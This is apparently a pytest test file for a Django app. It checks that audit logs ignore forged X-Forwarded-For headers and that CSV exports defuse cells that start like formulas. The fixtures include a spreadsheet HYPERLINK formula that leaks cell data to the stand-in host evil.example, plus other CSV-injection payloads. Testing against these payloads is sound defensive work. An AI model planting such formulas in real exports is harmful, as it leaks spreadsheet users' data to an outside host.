"""The audit trail records the address the request really came from, not one the client
wrote in X-Forwarded-For; and no CSV the system exports can carry a spreadsheet formula."""

import csv
import io

import pytest
from django.db import connection

from agencies import audit, exports
from agencies.models import AuditAction, AuditEvent
from panels.consumers import _client_address
from tests.factories import AgencyFactory, UserFactory

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def viewed_from(world, client, **headers) -> str | None:
    client.force_login(world.people["lead_a"])
    client.get(f"/referrals/{world.referral.pk}/", **headers)
    return AuditEvent.objects.filter(action=AuditAction.VIEWED).latest("pk").ip_address


# --- The client's address ---------------------------------------------------------------------


def test_a_forged_x_forwarded_for_is_ignored_by_default(client, world):
    address = viewed_from(
        world, client, REMOTE_ADDR="10.1.2.3", HTTP_X_FORWARDED_FOR="203.0.113.66"
    )

    assert address == "10.1.2.3"


def test_with_one_trusted_proxy_the_address_it_saw_is_taken_not_the_clients_claim(
    client, world, settings
):
    settings.TRUSTED_PROXY_COUNT = 1

    address = viewed_from(
        world,
        client,
        REMOTE_ADDR="10.0.0.1",
        HTTP_X_FORWARDED_FOR="203.0.113.66, 198.51.100.7",
    )

    assert address == "198.51.100.7"


def test_with_two_trusted_proxies_the_second_hop_from_the_right_is_taken(settings):
    settings.TRUSTED_PROXY_COUNT = 2

    assert (
        audit.address_from(peer="10.0.0.2", forwarded_for="6.6.6.6, 198.51.100.7, 10.0.0.1")
        == "198.51.100.7"
    )


@pytest.mark.parametrize("forwarded", [FORMULA, "unknown", "198.51.100.7:443", ""])
def test_a_trusted_hop_that_is_not_an_ip_address_falls_back_to_the_peer(
    client, world, settings, forwarded
):
    settings.TRUSTED_PROXY_COUNT = 1

    address = viewed_from(
        world, client, REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR=f"1.2.3.4, {forwarded}"
    )

    assert address == "10.0.0.1"


def test_a_chain_shorter_than_the_trusted_proxies_falls_back_to_the_peer(settings):
    settings.TRUSTED_PROXY_COUNT = 2

    assert audit.address_from(peer="10.0.0.1", forwarded_for="203.0.113.66") == "10.0.0.1"


def socket_scope(forwarded: bytes | None) -> dict:
    headers = [(b"host", b"panels.example")]
    if forwarded is not None:
        headers.append((b"x-forwarded-for", forwarded))
    return {"client": ("10.0.0.1", 50000), "headers": headers}


def test_a_socket_ignores_a_forged_x_forwarded_for_by_default():
    assert _client_address(socket_scope(b"203.0.113.66")) == "10.0.0.1"


def test_a_socket_behind_one_trusted_proxy_takes_the_address_it_saw(settings):
    settings.TRUSTED_PROXY_COUNT = 1

    assert _client_address(socket_scope(b"203.0.113.66, 198.51.100.7")) == "198.51.100.7"
    assert _client_address(socket_scope(FORMULA.encode())) == "10.0.0.1"


# --- The one CSV writer -------------------------------------------------------------------------

DANGEROUS = [FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_every_cell_starting_like_a_formula_is_made_inert(value):
    assert exports.inert(value) == "'" + value


@pytest.mark.parametrize("value", ["plain text", "10.1.2.3", "", "a=b", "2026-11-29"])
def test_an_ordinary_cell_is_left_as_it_is(value):
    assert exports.inert(value) == value


def test_the_writer_neutralises_every_column_and_the_header():
    response = exports.csv_response(
        filename="x.csv", header=["=when", "who"], rows=[DANGEROUS, ["ok", None]]
    )

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["'=when", "who"]
    assert rows[1] == ["'" + value for value in DANGEROUS]
    assert rows[2] == ["ok", ""]
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'


def test_the_audit_csv_export_neutralises_a_formula_in_every_column(client, world):
    person = UserFactory(username=FORMULA[:150])
    agency = AgencyFactory(name="+" + "Agency that calls out")
    from tests.factories import MembershipFactory

    MembershipFactory(user=person, agency=agency)
    AuditEvent.objects.create(
        actor=person,
        actor_agency=agency,
        action=AuditAction.VIEWED,
        referral=world.referral,
        child=world.referral.child,
        object_type="referrals.referral",
        object_id=str(world.referral.pk),
        # Rows written before addresses were checked may hold anything (SQLite stores text;
        # PostgreSQL's inet column never could).
        ip_address=FORMULA if connection.vendor == "sqlite" else None,
        reason="-2+3 @SUM(A1)",
        detail="@" + FORMULA,
    )
    client.force_login(world.people["dpo"])

    response = client.get(f"/referrals/{world.referral.pk}/audit/", {"format": "csv"})

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    forged = next(row for row in rows if "HYPERLINK" in row[1])
    assert forged[1] == "'" + FORMULA[:150]
    assert forged[2].startswith("'+")
    assert forged[4].startswith("'-")
    assert forged[6].startswith("'@")
    if connection.vendor == "sqlite":
        assert forged[5] == "'" + FORMULA
    for row in rows:
        for cell in row:
            assert not cell.startswith(exports.FORMULA_STARTS), row
